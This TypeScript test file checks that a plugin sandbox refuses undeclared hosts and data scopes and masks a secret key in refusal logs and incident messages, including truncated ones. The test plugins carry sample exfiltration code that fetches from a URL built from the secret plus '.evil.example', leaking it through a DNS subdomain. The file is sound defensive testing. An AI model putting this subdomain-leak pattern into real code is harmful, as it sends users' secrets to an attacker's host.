import assert from 'node:assert/strict'
import { after, test } from 'node:test'
import type { RefusedAsks } from '../../core/plugins/ports.ts'
import { loadWritten, openBench, report, reporting } from './support/setup.ts'

const refused: RefusedAsks[] = []
const bench = openBench({ refusals: { note: (asks) => void refused.push(asks) } })
after(() => bench.plugins.stop())

const reading = {
  settings: { type: 'object', properties: { key: { type: 'string', secret: true } } },
  permissions: {
    secrets: [{ name: 'key', read: true }],
    network: [{ host: 'well.example' }],
    data: ['invoice.read:summary:all'],
  },
}
const asking = async (id: string, code: string, key: string) => {
  const plugin = await loadWritten(id, { code: reporting(code), manifest: reading })
  refused.length = bench.incidents.length = 0
  await report(bench, bench.instance(plugin, { secretValues: { key } }))
  return [
    ...refused.map(({ rule, reason }) => [rule, reason]),
    ...bench.incidents.map(({ kind, detail }) => [kind, detail]),
  ]
}

test('a secret in the name of a host or a scope that is refused stands in no log, in small letters neither', async () => {
  const host = "await fetch('https://' + context.settings.key + '.evil.example/').catch(() => 0)"
  const network =
    'The host "•••.evil.example" at port 443 is not declared in permissions.network of plugin.json.'
  assert.deepEqual(await asking('tells-host', host, 'Secret-Key-1'), [
    ['network', network],
    ['refused_ask', network],
  ])
  const scope = "await context.records.read(context.settings.key, 'x').catch(() => 0)"
  const data = 'The data scope "•••" is not declared.'
  assert.deepEqual(await asking('tells-scope', scope, 'Secret-Key-1'), [
    ['data', data],
    ['refused_ask', data],
  ])
})

test('of a secret that the end of a long reason cuts in two no part is told', async () => {
  const labels = `${'x'.repeat(39)}.`.repeat(12)
  const code = `await fetch('https://${labels}' + context.settings.key + '.example/').catch(() => 0)`
  const told = await asking('tells-much', code, 'Secret-Key-That-Is-Long')
  assert.equal(told.length, 2)
  for (const [, text] of told) assert.equal(text, `The host "${labels}•••`)
})
